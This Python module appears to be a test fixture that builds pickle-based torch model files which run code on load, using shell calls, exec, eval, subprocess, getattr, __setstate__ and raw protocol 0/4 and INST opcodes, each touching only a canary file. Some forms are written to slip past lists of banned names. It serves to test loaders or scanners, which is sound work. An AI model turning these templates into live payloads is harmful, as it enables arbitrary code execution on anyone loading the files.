"""Pickles that leave a canary when something loads them, in every form torch has written."""

from __future__ import annotations

import io
import os
import pickle
import subprocess
import tarfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch import nn


class Call:
    """Unpickled, it is what `function(*given)` returns."""

    def __init__(self, function: Callable[..., Any], *given: Any) -> None:
        self.parts = (function, given)

    def __reduce__(self) -> Any:
        return self.parts


def by_shell(canary: Path) -> Call:
    return Call(os.system, f"touch '{canary}'")


def by_exec(canary: Path) -> Call:
    return Call(exec, f"open({str(canary)!r}, 'w').close()")


def by_eval(canary: Path) -> Call:
    return Call(eval, f"open({str(canary)!r}, 'w').close()")


def by_open(canary: Path) -> Call:
    return Call(open, str(canary), "w")


def by_process(canary: Path) -> Call:
    return Call(subprocess.check_call, ["touch", str(canary)])


def by_getattr(canary: Path) -> Call:
    """Through getattr and a path's method, without a name that a list of bad names would have."""
    return Call(getattr(Path, "touch"), canary)  # noqa: B009


class Stateful:
    """Runs when its state is set, not when it is made."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __setstate__(self, state: dict[str, Any]) -> None:
        Path(state["canary"]).touch()


WEIGHT = torch.zeros(8, 4)


def saved(content: Any, path: Path, legacy: bool = False) -> Path:
    torch.save(content, path, _use_new_zipfile_serialization=not legacy)
    return path


def hidden_in_storage(canary: Path) -> Any:
    """torch's own helper that loads what it is given, whatever the caller asked for."""
    inner = io.BytesIO()
    torch.save(by_open(canary), inner, _use_new_zipfile_serialization=False)
    return Call(torch.storage._load_from_bytes, inner.getvalue())


def numpy_scalar(canary: Path) -> Any:
    """NumPy's scalar of dtype object unpickles the bytes that it is made from."""
    from numpy._core import multiarray

    return Call(multiarray.scalar, np.dtype("O"), pickle.dumps(by_open(canary)))


def old_tar(path: Path, canary: Path) -> Path:
    """The format of 2016: pickles in a tar archive."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            content = pickle.dumps(by_shell(canary))
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return path


def renamed_zip(path: Path, canary: Path, root: str, extra: bool = False) -> Path:
    """Torch's archive under another root; `extra`: with a second pickle, as TorchScript has."""
    plain = path.with_name("plain.tmp")
    saved({"a": by_shell(canary)}, plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            new.writestr(f"{root}/{name.partition('/')[2]}", old.read(name))
        if extra:
            new.writestr(f"{root}/constants.pkl", pickle.dumps(by_exec(canary)))
    plain.unlink()
    return path


def script(path: Path) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.script(nn.Linear(4, 3)).save(str(path))  # type: ignore[no-untyped-call]
    return path


def opcodes(path: Path, text: bytes) -> Path:
    path.write_bytes(text)
    return path


def protocol_0(path: Path, canary: Path) -> Path:
    return opcodes(path, b"cposix\nsystem\n(S'touch %s'\ntR." % str(canary).encode())


def protocol_4(path: Path, canary: Path) -> Path:
    """The module and the name as two strings from the memo."""
    command = f"touch {canary}".encode()
    stack = (
        b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94h\x00h\x01\x93\x94"
        + b"X" + len(command).to_bytes(4, "little") + command + b"\x85R."
    )  # fmt: skip
    return opcodes(path, stack)


def old_instance(path: Path, canary: Path) -> Path:
    """The INST opcode, which names and calls in one."""
    return opcodes(path, b"(S'touch %s'\niposix\nsystem\n." % str(canary).encode())
